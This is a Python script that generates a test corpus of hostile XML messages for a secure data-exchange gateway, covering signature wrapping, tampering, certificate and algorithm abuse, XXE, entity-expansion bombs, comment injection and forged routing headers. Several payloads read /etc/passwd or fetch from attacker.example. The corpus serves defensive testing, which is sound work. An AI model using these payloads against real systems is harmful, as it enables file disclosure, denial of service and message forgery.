"""Generate the attack corpus: hostile messages the inbound path must quarantine.

Run ``.venv/bin/python tests/data/attacks/make_corpus.py`` to rewrite the
``*.xml`` files and ``manifest.json`` beside this script. Keys are derived
deterministically from labels (``corpus_key``) so that no private key file
is committed; certificates are rebuilt from the same keys and fixed dates.
ECDSA signatures are randomised, so regenerated files differ byte for byte
but not in what they test (``test_attack_corpus`` checks the manifest).

Every entry names the inbox it is delivered to, the routing key, the
substring the quarantine reason must contain, and messages to deliver first
(for replays). Entries whose ``outcome`` is ``normalised`` are accepted, but
only in their signed form: ``expect`` is then what the VERIFIED history entry
says was removed ("" for nothing), ``intact`` a text the local system must
receive whole and ``absent`` one it must never receive.
"""

from __future__ import annotations

import hashlib
import json
import sys
import uuid
from base64 import b64encode
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, utils
from cryptography.x509.oid import NameOID
from lxml import etree

from gateway.envelope.signing import Signer
from gateway.transport.accounts import account_name
from gateway.transport.retry import PUBLISHER_HEADER, REASON_HEADER, ROUTING_KEY_HEADER

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
EXAMPLE = ROOT / "schemas" / "examples" / "assessment.xml"
NS = "urn:caf-exchange:1"
DS = "http://www.w3.org/2000/09/xmldsig#"
NOW = datetime(2026, 10, 1, 12, 0, tzinfo=UTC)
"""The clock of the gateway that receives the corpus."""

# label -> (LA code in the subject, valid from, valid until)
IDENTITIES: dict[str, tuple[str, datetime, datetime]] = {
    "332": ("332", datetime(2026, 1, 1, tzinfo=UTC), datetime(2030, 1, 1, tzinfo=UTC)),
    "333": ("333", datetime(2026, 1, 1, tzinfo=UTC), datetime(2030, 1, 1, tzinfo=UTC)),
    "336": ("336", datetime(2026, 1, 1, tzinfo=UTC), datetime(2030, 1, 1, tzinfo=UTC)),
    "335-expired": ("335", datetime(2024, 1, 1, tzinfo=UTC), datetime(2025, 1, 1, tzinfo=UTC)),
    "334-future": ("334", datetime(2027, 1, 1, tzinfo=UTC), datetime(2030, 1, 1, tzinfo=UTC)),
    "332-rogue": ("332", datetime(2026, 1, 1, tzinfo=UTC), datetime(2030, 1, 1, tzinfo=UTC)),
    "330-rogue": ("330", datetime(2026, 1, 1, tzinfo=UTC), datetime(2030, 1, 1, tzinfo=UTC)),
}
PINNED = {
    "332": ["332"],
    "333": ["333"],
    "336": ["336"],
    "335": ["335-expired"],
    "334": ["334-future"],
}
"""What the receiving gateway pins: LA code -> identity labels (330 has none)."""
VHOST = "/"
"""The vhost of the corpus gateway's broker URL (the default one)."""


def account(code: str) -> str:
    """Authority ``code``'s broker account on the corpus gateway's vhost."""
    return account_name(code, VHOST)


def corpus_key(label: str) -> ec.EllipticCurvePrivateKey:
    """A P-256 key derived from ``label``: the same on every run, never a file."""
    n = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    seed = hashlib.sha256(f"cafgw attack corpus {label}".encode()).digest()
    return ec.derive_private_key(int.from_bytes(seed, "big") % (n - 1) + 1, ec.SECP256R1())


def corpus_cert(label: str) -> x509.Certificate:
    code, start, end = IDENTITIES[label]
    key = corpus_key(label)
    name = x509.Name(
        [
            x509.NameAttribute(NameOID.COMMON_NAME, f"Attack corpus {label}"),
            x509.NameAttribute(NameOID.ORGANIZATION_NAME, "cafgw"),
            x509.NameAttribute(NameOID.SERIAL_NUMBER, code),
        ]
    )
    serial = int.from_bytes(hashlib.sha256(label.encode()).digest()[:15], "big")
    return (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(serial)
        .not_valid_before(start)
        .not_valid_after(end)
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )


def signer(label: str) -> Signer:
    key_pem = corpus_key(label).private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    return Signer(key_pem, corpus_cert(label).public_bytes(serialization.Encoding.PEM))


@dataclass(frozen=True)
class Attack:
    name: str
    description: str
    expect: str
    """Substring of the quarantine reason."""
    inbox: str = "336"
    routing_key: str = "336.Assessment.332"
    before: tuple[str, ...] = ()
    """Corpus files delivered (and accepted) first."""
    outcome: str = "quarantined"
    """``quarantined``, or ``normalised``: accepted as the signed (canonical) form."""
    intact: str = ""
    absent: str = ""
    exchange: str = "caf.exchange"
    """The exchange the broker delivered it from."""
    user_id: str | None = "guest"
    """The publishing account as the broker validated it (``guest``: the receiving
    gateway's own account in the corpus gateway, which is also its relay)."""
    headers: dict[str, object] = field(default_factory=dict)
    """AMQP headers the publisher set (``x-cafgw-*`` are believed only from a relay)."""


def q(path: str) -> str:
    """Clark-notation path of canonical elements ("Header/MessageId")."""
    return "/".join(f"{{{NS}}}{name}" for name in path.split("/"))


def message(
    name: str,
    *,
    sender: str = "332",
    recipient: str = "336",
    created: datetime | None = None,
    message_id: str | None = None,
) -> etree._Element:
    """The example assessment with a fresh, deterministic header."""
    root = etree.parse(str(EXAMPLE)).getroot()
    header = root.find(q("Header"))
    assert header is not None
    values = {
        "MessageId": message_id or str(uuid.uuid5(uuid.NAMESPACE_URL, f"cafgw-attack/{name}")),
        "Sender": sender,
        "Recipient": recipient,
        "CreatedAt": (created or NOW - timedelta(seconds=60)).strftime("%Y-%m-%dT%H:%M:%SZ"),
    }
    for tag, value in values.items():
        el = header.find(q(tag))
        assert el is not None
        el.text = value
    return root


def signed(root: etree._Element, label: str = "332") -> bytes:
    return signer(label).sign(root)


def tree(data: bytes) -> etree._Element:
    return etree.fromstring(data)


def out(root: etree._Element) -> bytes:
    return bytes(etree.tostring(root, encoding="UTF-8", xml_declaration=True))


def resign(root: etree._Element, label: str = "332", sha1: bool = False) -> bytes:
    """Recompute SignatureValue over a hand-edited SignedInfo (a valid signature, bad shape)."""
    sig = root.find(f"{{{DS}}}Signature")
    assert sig is not None
    info = sig.find(f"{{{DS}}}SignedInfo")
    assert info is not None
    c14n = etree.tostring(info, method="c14n", exclusive=True, with_comments=False)
    algorithm = hashes.SHA1() if sha1 else hashes.SHA256()
    r, s = utils.decode_dss_signature(corpus_key(label).sign(c14n, ec.ECDSA(algorithm)))
    value = sig.find(f"{{{DS}}}SignatureValue")
    assert value is not None
    value.text = b64encode(r.to_bytes(32, "big") + s.to_bytes(32, "big")).decode()
    return out(root)


def ds(root: etree._Element, path: str) -> etree._Element:
    found = root.find("/".join(f"{{{DS}}}{p}" for p in path.split("/")))
    assert found is not None, path
    return found


def text_replace(data: bytes, old: bytes, new: bytes) -> bytes:
    assert old in data, old
    return data.replace(old, new, 1)


def build() -> dict[str, tuple[Attack, bytes]]:
    """Every attack with its bytes (plus the good messages some of them need)."""
    corpus: dict[str, tuple[Attack, bytes]] = {}

    def add(attack: Attack, data: bytes) -> None:
        corpus[attack.name] = (attack, data)

    good = signed(message("good"))
    add(Attack("good", "control: a genuine message (accepted, not an attack)", ""), good)

    # --- signature wrapping ----------------------------------------------------
    original = tree(signed(message("wrap-moved-body")))
    forged = message("wrap-moved-body")
    ds_sig = original.find(f"{{{DS}}}Signature")
    assert ds_sig is not None
    obj = etree.SubElement(ds_sig, f"{{{DS}}}Object")
    original.remove(ds_sig)
    obj.append(original)
    forged.append(ds_sig)
    add(
        Attack(
            "wrap-moved-body",
            "signed envelope moved into ds:Object of a forged one",
            "Object not allowed",
        ),
        out(forged),
    )

    root = tree(signed(message("wrap-duplicated-id")))
    root.set("Id", "body")
    body = root.find(q("Assessment"))
    assert body is not None
    body.set("Id", "body")
    ds(root, "Signature/SignedInfo/Reference").set("URI", "#body")
    add(
        Attack(
            "wrap-duplicated-id",
            "two elements share Id=body; the reference names #body",
            "must cover the whole document",
        ),
        resign(root),
    )

    signed_doc = tree(signed(message("wrap-in-extension")))
    sig = signed_doc.find(f"{{{DS}}}Signature")
    assert sig is not None
    signed_doc.remove(sig)
    forged = message("wrap-in-extension")
    forged_body = forged.find(q("Assessment"))
    assert forged_body is not None
    forged_body.find(q("Child/GivenName")).text = "Mallory"  # type: ignore[union-attr]
    ext = etree.SubElement(forged_body, q("Extension"))
    ext.append(signed_doc)
    forged.append(sig)
    add(
        Attack(
            "wrap-in-extension",
            "genuine envelope wrapped inside an extension of a forged "
            "body, its signature re-attached to the forged envelope",
            "content altered",
        ),
        out(forged),
    )

    root = tree(signed(message("wrap-second-signature")))
    second = tree(signed(message("wrap-second-signature-other"), "332")).find(f"{{{DS}}}Signature")
    assert second is not None
    root.find(q("Header")).append(second)  # type: ignore[union-attr]
    add(
        Attack(
            "wrap-second-signature",
            "a second ds:Signature hidden in the header",
            "exactly one ds:Signature",
        ),
        out(root),
    )

    root = tree(signed(message("signature-not-last")))
    sig = root.find(f"{{{DS}}}Signature")
    assert sig is not None
    root.remove(sig)
    root.insert(1, sig)
    add(
        Attack(
            "signature-not-last",
            "the signature moved between header and body",
            "exactly one ds:Signature",
        ),
        out(root),
    )

    add(Attack("unsigned", "no signature at all", "not signed"), out(message("unsigned")))

    # --- tampering -------------------------------------------------------------
    data = signed(message("tampered-body"))
    add(
        Attack("tampered-body", "child's name changed after signing", "content altered"),
        text_replace(data, "Siobhán".encode(), b"Sarah"),
    )
    data = signed(message("tampered-recipient", recipient="333"))
    add(
        Attack(
            "tampered-recipient", "recipient 333 rewritten to 336 after signing", "content altered"
        ),
        text_replace(data, b"<Recipient>333</Recipient>", b"<Recipient>336</Recipient>"),
    )
    data = signed(message("tampered-sender"))
    add(
        Attack(
            "tampered-sender",
            "sender 332 rewritten to 333 (also pinned) after signing",
            "not pinned for 333",
            routing_key="336.Assessment.333",
        ),
        text_replace(data, b"<Sender>332</Sender>", b"<Sender>333</Sender>"),
    )
    data = signed(message("tampered-legal-basis"))
    add(
        Attack(
            "tampered-legal-basis",
            "legal basis CONSENT rewritten to SAFEGUARDING",
            "content altered",
        ),
        text_replace(
            data, b"<LegalBasis>CONSENT</LegalBasis>", b"<LegalBasis>SAFEGUARDING</LegalBasis>"
        ),
    )
    data = signed(message("tampered-signed-info"))
    add(
        Attack("tampered-signed-info", "digest value in SignedInfo altered", "does not verify"),
        _flip_digest(data),
    )

    # --- trust -----------------------------------------------------------------
    add(
        Attack(
            "wrong-signer",
            "claims Dudley (332), signed with Sandwell's (333) key",
            "not pinned for 332",
        ),
        signed(message("wrong-signer"), "333"),
    )
    add(
        Attack(
            "rogue-certificate",
            "signed with a self-made certificate naming LA 332",
            "not pinned for 332",
        ),
        signed(message("rogue-certificate"), "332-rogue"),
    )
    add(
        Attack(
            "unknown-sender",
            "Birmingham (330) has no pinned certificate",
            "unknown sender",
            routing_key="336.Assessment.330",
        ),
        signed(message("unknown-sender", sender="330"), "330-rogue"),
    )
    add(
        Attack(
            "sender-outside-region",
            "sender 999 is no authority of the region",
            "unknown sender",
            routing_key="336.Assessment.999",
        ),
        signed(message("sender-outside-region", sender="999"), "330-rogue"),
    )
    add(
        Attack(
            "expired-certificate",
            "Walsall (335) signs with its expired certificate",
            "is valid at",
            routing_key="336.Assessment.335",
        ),
        signed(message("expired-certificate", sender="335"), "335-expired"),
    )
    add(
        Attack(
            "not-yet-valid-certificate",
            "Solihull (334) certificate valid from 2027",
            "is valid at",
            routing_key="336.Assessment.334",
        ),
        signed(message("not-yet-valid-certificate", sender="334"), "334-future"),
    )

    # --- algorithms and references ---------------------------------------------
    root = tree(signed(message("sha1-signature")))
    ds(root, "Signature/SignedInfo/SignatureMethod").set(
        "Algorithm", "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1"
    )
    add(
        Attack("sha1-signature", "a genuine ECDSA-SHA1 signature", "SignatureMethod"),
        resign(root, sha1=True),
    )
    root = tree(signed(message("sha1-digest")))
    ref = ds(root, "Signature/SignedInfo/Reference")
    ds(root, "Signature/SignedInfo/Reference/DigestMethod").set(
        "Algorithm", "http://www.w3.org/2000/09/xmldsig#sha1"
    )
    unsigned = tree(signed(message("sha1-digest")))
    unsigned.remove(unsigned.find(f"{{{DS}}}Signature"))  # type: ignore[arg-type]
    digest = hashlib.sha1(etree.tostring(unsigned, method="c14n", exclusive=True)).digest()
    ds(ref, "DigestValue").text = b64encode(digest).decode()
    add(Attack("sha1-digest", "reference digested with SHA-1", "DigestMethod"), resign(root))
    root = tree(signed(message("hmac-signature")))
    ds(root, "Signature/SignedInfo/SignatureMethod").set(
        "Algorithm", "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
    )
    add(
        Attack("hmac-signature", "HMAC signature method (key confusion)", "SignatureMethod"),
        resign(root),
    )
    root = tree(signed(message("inclusive-c14n")))
    ds(root, "Signature/SignedInfo/CanonicalizationMethod").set(
        "Algorithm", "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
    )
    add(
        Attack("inclusive-c14n", "inclusive C14N instead of exclusive", "CanonicalizationMethod"),
        resign(root),
    )
    for name, algorithm in (
        ("xpath-transform", "http://www.w3.org/TR/1999/REC-xpath-19991116"),
        ("xslt-transform", "http://www.w3.org/TR/1999/REC-xslt-19991116"),
    ):
        root = tree(signed(message(name)))
        transforms = ds(root, "Signature/SignedInfo/Reference/Transforms")
        extra = etree.SubElement(transforms, f"{{{DS}}}Transform", Algorithm=algorithm)
        etree.SubElement(extra, f"{{{DS}}}XPath").text = "not(ancestor-or-self::*)"
        add(
            Attack(name, f"{name.split('-')[0].upper()} transform in the reference", "not allowed"),
            resign(root),
        )
    root = tree(signed(message("external-reference")))
    ds(root, "Signature/SignedInfo/Reference").set("URI", "http://attacker.example/body.xml")
    add(
        Attack(
            "external-reference", "reference to an external URI", "must cover the whole document"
        ),
        resign(root),
    )
    root = tree(signed(message("file-reference")))
    ds(root, "Signature/SignedInfo/Reference").set("URI", "file:///etc/passwd")
    add(
        Attack("file-reference", "reference to a local file", "must cover the whole document"),
        resign(root),
    )
    root = tree(signed(message("two-references")))
    info = ds(root, "Signature/SignedInfo")
    info.append(etree.fromstring(etree.tostring(ds(root, "Signature/SignedInfo/Reference"))))
    add(
        Attack("two-references", "two references in SignedInfo", "exactly one reference"),
        resign(root),
    )
    root = tree(signed(message("keyinfo-retrieval")))
    keyinfo = ds(root, "Signature/KeyInfo")
    etree.SubElement(keyinfo, f"{{{DS}}}RetrievalMethod", URI="http://attacker.example/key")
    add(
        Attack(
            "keyinfo-retrieval",
            "KeyInfo asks to fetch a key from the network",
            "RetrievalMethod not allowed",
        ),
        out(root),
    )

    # --- hostile XML -----------------------------------------------------------
    body = out(message("doctype"))
    decl, rest = body.split(b"?>", 1)
    add(
        Attack("doctype", "a harmless-looking DOCTYPE", "DOCTYPE not allowed"),
        decl + b"?>\n<!DOCTYPE Envelope>" + rest,
    )
    add(
        Attack("xxe-file", "external entity reading /etc/passwd", "DOCTYPE not allowed"),
        decl
        + b'?>\n<!DOCTYPE Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        + rest.replace("Siobhán".encode(), b"&x;"),
    )
    add(
        Attack("xxe-network", "external entity fetched over the network", "DOCTYPE not allowed"),
        decl
        + b'?>\n<!DOCTYPE Envelope [<!ENTITY x SYSTEM "http://attacker.example/x">]>'
        + rest.replace("Siobhán".encode(), b"&x;"),
    )
    laughs = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    add(
        Attack("billion-laughs", "nested entity expansion", "DOCTYPE not allowed"),
        decl
        + b'?>\n<!DOCTYPE Envelope [<!ENTITY l0 "lol">'
        + laughs.encode()
        + b"]>"
        + rest.replace("Siobhán".encode(), b"&l9;"),
    )
    add(
        Attack("quadratic-blowup", "one large entity referenced many times", "DOCTYPE not allowed"),
        decl
        + b'?>\n<!DOCTYPE Envelope [<!ENTITY a "'
        + b"A" * 5000
        + b'">]>'
        + rest.replace("Siobhán".encode(), b"&a;" * 200),
    )
    add(
        Attack("utf16-doctype", "DOCTYPE hidden from a byte scan by UTF-16", "only UTF-8"),
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE Envelope><Envelope/>'.encode("utf-16"),
    )
    add(
        Attack(
            "ebcdic-doctype", "DOCTYPE and entity hidden from a byte scan by EBCDIC", "only UTF-8"
        ),
        (
            '<?xml version="1.0" encoding="IBM037"?><!DOCTYPE Envelope [<!ENTITY x SYSTEM '
            '"file:///etc/passwd">]><Envelope>&x;</Envelope>'
        ).encode("cp037"),
    )
    add(
        Attack(
            "processing-instruction",
            "a processing instruction before the root",
            "processing instruction",
        ),
        decl + b"?>\n<?xml-stylesheet href='http://attacker.example/x.xsl'?>" + rest,
    )
    add(
        Attack("deep-nesting", "elements nested 400 deep", "nesting deeper"),
        b"<Envelope xmlns='urn:caf-exchange:1'>" + b"<a>" * 400 + b"</a>" * 400 + b"</Envelope>",
    )
    root = message("oversize")
    summary = root.find(q("Assessment"))
    assert summary is not None
    etree.SubElement(summary, q("Padding")).text = "x" * 120_000
    add(
        Attack("oversize", "a message over the 100 kB limit of the test gateway", "bytes, limit"),
        signed(root),
    )

    # --- replay and window -----------------------------------------------------
    same_id = message("good").find(q("Header/MessageId")).text  # type: ignore[union-attr]
    other = message("replayed", message_id=same_id)
    other.find(q("Assessment/Status")).text = "CLOSED"  # type: ignore[union-attr]
    add(
        Attack(
            "replayed",
            "the id of an accepted message with other (signed) content",
            "different digest",
            before=("good",),
        ),
        signed(other),
    )
    add(
        Attack("future-dated", "created-at one hour in the future", "in the future"),
        signed(message("future-dated", created=NOW + timedelta(hours=1))),
    )
    add(
        Attack("stale", "created-at 30 days ago, outside the window", "older than"),
        signed(message("stale", created=NOW - timedelta(days=30))),
    )

    # --- schema and routing ----------------------------------------------------
    root = message("schema-invalid")
    upn = root.find(q("Assessment/Child/Identifiers/UPN"))
    assert upn is not None
    upn.text = "not-a-upn"
    add(
        Attack("schema-invalid", "correctly signed but the UPN breaks the schema", "schema:"),
        signed(root),
    )
    add(
        Attack(
            "forged-queue",
            "signed by 332 for 333, published straight onto 336's queue",
            "delivered to the inbox of 336",
        ),
        signed(message("forged-queue", recipient="333")),
    )
    add(
        Attack(
            "forged-routing-key",
            "genuine message whose routing key claims sender 333",
            "forged routing",
            routing_key="336.Assessment.333",
        ),
        signed(message("forged-routing-key")),
    )
    root = message("encrypted-garbage")
    body_el = root.find(q("Assessment"))
    assert body_el is not None
    enc = etree.Element(q("EncryptedBody"))
    for tag, value in (
        ("Algorithm", "ECDH-ES+HKDF-SHA256+A256GCM"),
        ("RecipientKey", "0" * 64),
        ("EphemeralKey", "AAAA"),
        ("Nonce", "AAAAAAAAAAAAAAAA"),
        ("CipherText", "AAAA"),
    ):
        etree.SubElement(enc, q(tag)).text = value
    root.replace(body_el, enc)
    add(
        Attack(
            "encrypted-for-another-key",
            "an EncryptedBody for a key 336 does not hold",
            "encryption:",
        ),
        signed(root),
    )

    # --- act only on what was signed (issue 13, item 1) -------------------------
    data = signed(message("comment-in-text"))
    add(
        Attack(
            "comment-in-text",
            "a comment inserted into signed text after signing (exclusive C14N does not "
            "sign comments); a reader stopping at the comment would see 'Over'",
            "comment(s) removed",
            outcome="normalised",
            intact="<Notes>Overcrowded flat</Notes>",
            absent="<!--",
        ),
        text_replace(data, b"Overcrowded flat", b"Over<!--x-->crowded flat"),
    )
    data = signed(message("comment-in-sender"))
    add(
        Attack(
            "comment-in-sender",
            "a comment splitting the signed sender code",
            "comment(s) removed",
            outcome="normalised",
            intact="<Sender>332</Sender>",
            absent="<!--",
        ),
        text_replace(data, b"<Sender>332</Sender>", b"<Sender>33<!--6-->2</Sender>"),
    )
    data = signed(message("comment-hides-element"))
    add(
        Attack(
            "comment-hides-element",
            "a commented-out element added after signing, for a careless reader to find",
            "comment(s) removed",
            outcome="normalised",
            intact="<Status>OPEN</Status>",
            absent="CLOSED",
        ),
        text_replace(
            data, b"<Status>OPEN</Status>", b"<Status>OPEN</Status><!--<Status>CLOSED</Status>-->"
        ),
    )
    data = signed(message("cdata-text"))
    add(
        Attack(
            "cdata-text",
            "signed text re-wrapped in a CDATA section after signing (same text)",
            "",
            outcome="normalised",
            intact="<Notes>Overcrowded flat</Notes>",
            absent="CDATA",
        ),
        text_replace(data, b"Overcrowded flat", b"<![CDATA[Overcrowded flat]]>"),
    )
    data = signed(message("cdata-markup"))
    add(
        Attack(
            "cdata-markup",
            "markup smuggled into signed text inside a CDATA section",
            "content altered",
        ),
        text_replace(
            data, b"Overcrowded flat", b"<![CDATA[Overcrowded flat</Notes><Status>CLOSED]]>"
        ),
    )
    data = signed(message("pi-in-body"))
    add(
        Attack(
            "pi-in-body",
            "a processing instruction inserted into signed text",
            "processing instruction",
        ),
        text_replace(data, b"Overcrowded flat", b"Overcrowded<?cafgw hide?> flat"),
    )
    _more_comments(add)
    _forged_origins(add)
    return corpus


def _more_comments(add: Callable[[Attack, bytes], None]) -> None:
    """Comments inserted after signing elsewhere than in plain text (issue 13, item 1)."""
    data = signed(message("comment-by-attributes"))
    add(
        Attack(
            "comment-by-attributes",
            "comments inserted next to an element's attributes (right after its start tag) "
            "and into the boolean they qualify: a reader stopping at one sees 'tr'",
            "2 comment(s) removed",
            outcome="normalised",
            intact=(
                '<Element domain="FAMILY_ENVIRONMENT" name="Housing">\n'
                "        <Concern>true</Concern>"
            ),
            absent="SAFETY",
        ),
        text_replace(
            data,
            b'<Element name="Housing" domain="FAMILY_ENVIRONMENT">\n        <Concern>true',
            b'<Element name="Housing" domain="FAMILY_ENVIRONMENT"><!--domain="SAFETY"-->\n'
            b"        <Concern>tr<!--x-->ue",
        ),
    )
    root = tree(signed(message("comment-in-signed-info")))
    digest = ds(root, "Signature/SignedInfo/Reference/DigestValue")
    whole = digest.text or ""
    digest.text = whole[:10]
    digest.append(etree.Comment("x"))
    digest[-1].tail = whole[10:]
    ds(root, "Signature/SignedInfo").insert(0, etree.Comment("<ds:Reference URI='#evil'/>"))
    value = ds(root, "Signature/SignatureValue")
    sig_text = value.text or ""
    value.text = sig_text[:20]
    value.append(etree.Comment(""))
    value[-1].tail = sig_text[20:]
    add(
        Attack(
            "comment-in-signed-info",
            "comments inside SignedInfo, splitting the DigestValue and the SignatureValue "
            "(a reader stopping at one would check a truncated digest)",
            "3 comment(s) removed",
            outcome="normalised",
            intact=f"DigestValue>{whole}</",
            absent="#evil",
        ),
        out(root),
    )
    data = signed(message("comment-in-message-id"))
    message_id = str(uuid.uuid5(uuid.NAMESPACE_URL, "cafgw-attack/comment-in-message-id"))
    add(
        Attack(
            "comment-in-message-id",
            "a comment splitting the signed MessageId (duplicates and receipts read the id)",
            "1 comment(s) removed",
            outcome="normalised",
            intact=f"<MessageId>{message_id}</MessageId>",
            absent="<!--",
        ),
        text_replace(
            data, message_id.encode(), (message_id[:8] + "<!---->" + message_id[8:]).encode()
        ),
    )


def _forged_origins(add: Callable[[Attack, bytes], None]) -> None:
    """What the publisher claims in headers, routing keys and accounts (issue 13, item 2).

    Each is genuine and signed; only its origin is forged. The headers are
    what an authority account may set; the broker vouches only for the key
    it delivered and ``user_id``.
    """
    add(
        Attack(
            "routing-header-spoof",
            "Sandwell's signed message published by Dudley's account (its topic permission "
            "lets it use keys ending .332) with a header claiming the key names Sandwell",
            "routing key '336.Assessment.332'",
            user_id=account("332"),
            headers={ROUTING_KEY_HEADER: "336.Assessment.333", PUBLISHER_HEADER: ""},
        ),
        signed(message("routing-header-spoof", sender="333"), "333"),
    )
    add(
        Attack(
            "two-part-key",
            "a routing key of two parts (the old check skipped it) with a header "
            "claiming a proper one",
            "routing key '336.332'",
            routing_key="336.332",
            user_id=account("332"),
            headers={ROUTING_KEY_HEADER: "336.Assessment.332"},
        ),
        signed(message("two-part-key")),
    )
    add(
        Attack(
            "publisher-spoof",
            "Dudley's signed message published by Sandwell's broker account",
            "forged publisher",
            user_id=account("333"),
        ),
        signed(message("publisher-spoof")),
    )
    add(
        Attack(
            "no-user-id",
            "a message whose publisher did not say which account it is (no user_id)",
            "no user_id",
            user_id=None,
        ),
        signed(message("no-user-id")),
    )
    add(
        Attack(
            "planted-retry-copy",
            "a 'retry copy' put through caf.requeue by Dudley's account (as the old Docker "
            "demo allowed), its headers naming the original key and publisher",
            "routing key 'caf.inbox.336'",
            exchange="caf.requeue",
            routing_key="caf.inbox.336",
            user_id=account("332"),
            headers={
                ROUTING_KEY_HEADER: "336.Assessment.332",
                PUBLISHER_HEADER: account("332"),
                REASON_HEADER: "retry: broker said so",
            },
        ),
        signed(message("planted-retry-copy")),
    )


def _flip_digest(data: bytes) -> bytes:
    root = tree(data)
    value = ds(root, "Signature/SignedInfo/Reference/DigestValue")
    raw = bytearray(value.text.encode())  # type: ignore[union-attr]
    raw[0] = ord("A") if raw[0] != ord("A") else ord("B")
    value.text = raw.decode()
    return out(root)


def write(directory: Path = HERE, *, rewrite: bool = False) -> None:
    """Write the manifest and each file that is missing (every file with ``rewrite``).

    Files already there are kept: 00-44 were signed with signxml and still
    verify, which is interoperability evidence of its own.
    """
    corpus = build()
    names = {f"{index:02d}-{attack.name}.xml" for index, (attack, _) in enumerate(corpus.values())}
    for old in directory.glob("*.xml"):
        if rewrite or old.name not in names:
            old.unlink()
    manifest = []
    for index, (attack, data) in enumerate(corpus.values()):
        filename = f"{index:02d}-{attack.name}.xml"
        if not (directory / filename).exists():
            (directory / filename).write_bytes(data)
        manifest.append({"file": filename, **asdict(attack)})
    (directory / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")


if __name__ == "__main__":
    write(rewrite="--all" in sys.argv[1:])
